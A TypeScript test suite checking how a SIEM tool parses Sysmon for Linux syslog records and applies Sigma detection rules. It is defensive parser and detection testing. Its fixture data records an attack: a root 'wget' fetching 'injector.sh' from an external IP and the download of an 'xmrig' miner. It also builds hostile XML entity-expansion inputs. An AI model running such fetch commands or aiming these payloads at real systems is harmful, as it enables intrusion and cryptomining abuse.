import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { SiemEvent } from '../../../src/domain/event';
import type { InputKind } from '../../../src/domain/input-kind';
import { DetectionEngine } from '../../../src/detect/engine';
import { InMemoryHostState, ProcessLineageEnricher } from '../../../src/enrich';
import { parseRecord, type ParseResult } from '../../../src/parse/parse-record';
import { compile, ruleYaml } from '../detect/helpers';

const fixture = (name: string): string[] =>
  readFileSync(resolve(__dirname, '../../fixtures/sysmon', name), 'utf8')
    .split('\n')
    .filter((l) => l !== '');

function read(text: string, kind?: InputKind): ParseResult {
  return parseRecord(
    { text, origin: { type: 'file', path: '<test>', line: 1 }, kind },
    { timezone: 'UTC', maxRecordBytes: 1 << 20, year: 2022 },
    new Date('2022-11-25T00:00:00Z'),
  );
}

function events(name: string): SiemEvent[] {
  return fixture(name).flatMap((line) => {
    const r = read(line);
    if (!r.ok) throw new Error(`${name}: ${r.reason}\n${line}`);
    return [...r.events];
  });
}

const ore = (): SiemEvent[] => events('htb-ore-syslog.log');
const byRecord = (all: SiemEvent[], id: string): SiemEvent => all.find((e) => e['winlog.record_id'] === id)!;

describe('Sysmon for Linux records in syslog', () => {
  it('every line of every sample reads, Sysmon records as kind sysmon, its plain start-up lines as syslog', () => {
    for (const name of ['elastic-sysmon-linux-sample.log', 'htb-ore-syslog.log', 'splunk-ta-useradd.log']) {
      for (const line of fixture(name)) {
        const r = read(line);
        expect(r.ok, line).toBe(true);
        expect(r.kind).toBe(line.includes('<Event>') ? 'sysmon' : 'syslog');
      }
    }
  });

  it('EventID 1 is a process start with the fields of the Sigma process_creation names', () => {
    const wget = byRecord(ore(), '76943');
    expect(wget).toMatchObject({
      '@timestamp': '2022-11-24T09:59:47.851Z',
      'host.name': 'ip-172-31-60-25',
      'event.module': 'sysmon',
      'event.dataset': 'process',
      'event.category': ['process'],
      'event.type': ['start'],
      'event.code': '1',
      'process.pid': 4001,
      'process.executable': '/usr/bin/wget',
      'process.name': 'wget',
      'process.command_line': 'wget http://44.204.18.94:80/injector.sh',
      'process.args': ['wget', 'http://44.204.18.94:80/injector.sh'],
      'process.working_directory': '/opt/automation',
      'process.start': '2022-11-24T09:59:47.855Z',
      'process.entity_id': '{c9eb4a87-4093-637f-70ec-fbf465550000}',
      'process.parent.pid': 4000,
      'process.parent.executable': '/bin/bash',
      'process.parent.command_line': '/bin/bash',
      'process.parent.name': 'bash',
      'process.parent.user.name': 'root',
      'user.name': 'root',
      'user.audit.id': '0',
      'winlog.event_data.TerminalSessionId': '66',
      'winlog.event_data.LogonGuid': '{c9eb4a87-0000-0000-0000-000001000000}',
    });
    expect(wget['message']).toBe(wget['event.original']!.slice(wget['event.original']!.indexOf('<Event>')));
  });

  it('EventID 3 is a connected socket, 11 a file created, 23 a file deleted, 5 a process end', () => {
    const curl = byRecord(ore(), '76955');
    expect(curl).toMatchObject({
      'event.dataset': 'socket',
      'event.action': 'socket-connected',
      'network.transport': 'tcp',
      'network.type': 'ipv4',
      'network.direction': 'egress',
      'source.ip': '172.31.60.25',
      'source.port': 42234,
      'destination.ip': '44.204.18.94',
      'destination.port': 80,
      'process.executable': '/usr/bin/curl',
      'process.pid': 4005,
    });
    expect(curl['destination.domain']).toBeUndefined(); // "-"
    expect(byRecord(ore(), '76956')).toMatchObject({
      'event.dataset': 'file_integrity',
      'event.type': ['creation'],
      'event.action': ['created'],
      'file.path': '/opt/automation/xmrig',
      'file.name': 'xmrig',
      'file.directory': '/opt/automation',
      'file.created': '2022-11-24T09:59:47.934Z',
      'process.executable': '/usr/bin/curl',
    });
    const elastic = events('elastic-sysmon-linux-sample.log');
    expect(byRecord(elastic, '2')).toMatchObject({
      'event.dataset': 'file_integrity',
      'event.type': ['deletion'],
      'file.path': '/dev/shm/sem.sysmon-startup',
      'process.pid': 3041,
    });
    const unknown = byRecord(elastic, '3');
    expect(unknown).toMatchObject({ 'event.type': ['end'], 'process.pid': 3041 });
    // "&lt;unknown process&gt;" decodes to a placeholder, not an image
    expect(unknown['winlog.event_data.Image']).toBe('<unknown process>');
    expect(unknown['process.executable']).toBeUndefined();
    expect(byRecord(elastic, '11')['process.executable']).toBeUndefined(); // (null)
  });

  it('a process that existed before Sysmon (every field "-", parent 0) gets no empty fields', () => {
    const before = byRecord(events('elastic-sysmon-linux-sample.log'), '7');
    expect(before['process.pid']).toBe(3100);
    for (const f of ['process.executable', 'process.command_line', 'process.parent.pid', 'user.name'])
      expect(before[f], f).toBeUndefined();
    expect(before['process.start']).toBe('2021-10-24T16:42:56.564Z');
  });

  it('Sysmon service records (4, 16) stay syslog events, with their data', () => {
    const elastic = events('elastic-sysmon-linux-sample.log');
    expect(byRecord(elastic, '1')).toMatchObject({
      'event.dataset': 'syslog',
      'winlog.task': 'Sysmon service state changed',
      'winlog.event_data.State': 'Started',
    });
    expect(byRecord(elastic, '0')['winlog.event_data.Configuration']).toBe('log_all_sysmon.xml');
  });

  it('a bare record (journalctl -t sysmon -o cat prints the message only) reads the same', () => {
    const line = fixture('htb-ore-syslog.log')[0]!;
    const bare = line.slice(line.indexOf('<Event>'));
    const r = read(bare, 'sysmon');
    expect(r.ok).toBe(true);
    const [fromSyslog] = events('htb-ore-syslog.log');
    const [fromBare] = r.ok ? r.events : [];
    for (const f of ['@timestamp', 'host.name', 'process.executable', 'process.parent.executable'])
      expect(fromBare![f], f).toEqual(fromSyslog![f]);
    expect(read(bare).kind).toBe('sysmon');
  });

  it('hostile or broken XML is a dead letter with the reason, never a crash and never an entity expansion', () => {
    const line = fixture('htb-ore-syslog.log')[0]!;
    const head = line.slice(0, line.indexOf('<Event>'));
    const xml = line.slice(line.indexOf('<Event>'));
    const cases: [string, RegExp][] = [
      [
        `<!DOCTYPE e [<!ENTITY x "${'a'.repeat(10)}">]>` + xml.replace('/usr/bin/wget', '&x;'),
        /DOCTYPE|Sysmon XML/,
      ],
      [xml.replace('/usr/bin/wget', '&xxe;'), /undefined entity|Sysmon XML/],
      [xml.slice(0, 400), /Sysmon XML/],
      [xml.replace('<EventID>1</EventID>', ''), /no numeric <EventID>/],
      [
        xml.replace('<EventData>', '<EventData>' + '<Data Name="x">1</Data>'.repeat(300)),
        /more than 256 elements/,
      ],
      [
        xml.replace('<Data Name="RuleName">-</Data>', '<Data Name="RuleName"><a><b>-</b></a></Data>'),
        /deeper/,
      ],
    ];
    for (const [bad, reason] of cases) {
      for (const text of [head + bad, bad]) {
        const r = read(text, 'sysmon');
        expect(r.ok, text.slice(0, 80)).toBe(false);
        if (!r.ok) expect(r.reason).toMatch(reason);
      }
    }
  });

  it('character references and the predefined entities decode; the raw text stays in event.original', () => {
    const line = fixture('htb-ore-syslog.log')[0]!;
    const r = read(line.replace('wget http', 'wget&#09;&amp;&quot;http'));
    expect(r.ok).toBe(true);
    if (r.ok) expect(r.events[0]!['process.command_line']).toBe('wget\t&"http://44.204.18.94:80/injector.sh');
  });
});

describe('Sigma process_creation over Sysmon', () => {
  const parentRule = ruleYaml(
    "  selection:\n    ParentImage|endswith: '/sudo'\n    Image|endswith: '/bash'\n    CurrentDirectory: '/opt/automation'\n    LogonId: 0\n  condition: selection",
    'product: linux\n  category: process_creation',
  );
  const imageRule = ruleYaml(
    "  selection:\n    Image|endswith: '/osqueryd'\n  condition: selection",
    'product: linux\n  category: process_creation',
  );

  it('a rule that needs ParentImage, CurrentDirectory and LogonId fires on the sudo → bash start', () => {
    const engine = new DetectionEngine(compile(parentRule).rules);
    const hits = ore().filter((e) => engine.evaluate(e).length > 0);
    expect(hits.map((e) => e['process.pid'])).toEqual([4004]);
  });

  it('a process end (EventID 5) raises no process_creation rule', () => {
    const engine = new DetectionEngine(compile(imageRule).rules);
    const ended = byRecord(events('elastic-sysmon-linux-sample.log'), '24');
    expect(ended['process.executable']).toMatch(/osqueryd$/);
    expect(engine.evaluate(ended)).toEqual([]);
    expect(engine.evaluate({ ...ended, 'event.type': ['start'] })).toHaveLength(1);
  });

  it('the lineage enricher leaves the parent Sysmon named alone and names it for later children', () => {
    const lineage = new ProcessLineageEnricher(new InMemoryHostState());
    const out = ore().map((e) => lineage.enrich(e));
    expect(out.find((e) => e['process.pid'] === 4005)!['process.parent.executable']).toBe('/bin/bash');
  });
});
